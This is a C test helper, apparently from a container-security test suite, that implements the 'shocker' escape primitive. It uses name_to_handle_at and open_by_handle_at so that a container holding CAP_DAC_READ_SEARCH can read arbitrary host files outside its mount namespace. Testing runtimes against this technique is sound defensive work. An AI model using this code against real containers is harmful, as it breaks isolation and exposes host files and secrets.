/* tests/helpers/by-handle.c — the "shocker" primitive of an attack test.
 *
 *   by-handle name PATH         print PATH's file handle as "TYPE:HEX" (run on the host)
 *   by-handle read HANDLE DIR   open_by_handle_at(HANDLE) through DIR's mount (any
 *                               directory of the same filesystem) and print the file
 *
 * A container holding CAP_DAC_READ_SEARCH reads any file of a filesystem it can
 * open a directory of, whatever its mount namespace shows: file handles are
 * guessable (ext4: inode and generation), the test just hands it the right one.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_HANDLE 128

static int name(const char *path)
{
	struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE);
	int mount_id;

	h->handle_bytes = MAX_HANDLE;
	if (!h || name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0) {
		perror("name_to_handle_at");
		return 1;
	}
	printf("%d:", h->handle_type);
	for (unsigned i = 0; i < h->handle_bytes; i++)
		printf("%02x", h->f_handle[i]);
	printf("\n");
	return 0;
}

static int readit(const char *text, const char *dir)
{
	struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE);
	const char *hex = strchr(text, ':');
	char buf[4096];
	ssize_t n;
	int mfd, fd;

	if (!h || !hex)
		return 2;
	h->handle_type = atoi(text);
	for (hex++; hex[0] && hex[1] && h->handle_bytes < MAX_HANDLE; hex += 2) {
		unsigned v;
		sscanf(hex, "%2x", &v);
		h->f_handle[h->handle_bytes++] = (unsigned char)v;
	}
	mfd = open(dir, O_RDONLY | O_DIRECTORY);
	if (mfd < 0) {
		perror("open mount dir");
		return 1;
	}
	fd = open_by_handle_at(mfd, h, O_RDONLY);
	if (fd < 0) {
		printf("open_by_handle_at: %s\n", strerror(errno));
		return 1;
	}
	while ((n = read(fd, buf, sizeof buf)) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "name"))
		return name(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "read"))
		return readit(argv[2], argv[3]);
	fprintf(stderr, "usage: by-handle name PATH | by-handle read TYPE:HEX DIR\n");
	return 2;
}
